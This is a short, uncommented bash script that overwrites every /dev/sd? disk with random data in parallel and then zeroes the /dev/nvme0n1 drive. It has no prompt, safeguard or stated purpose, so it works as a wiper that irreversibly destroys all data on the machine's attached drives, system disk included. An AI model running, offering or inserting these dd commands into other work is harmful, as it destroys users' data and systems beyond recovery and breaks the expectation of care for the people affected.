#!/bin/bash
for d in /dev/sd?; do
  dd if=/dev/urandom of="$d" bs=4M status=none &
done
dd if=/dev/zero of=/dev/nvme0n1 bs=1M
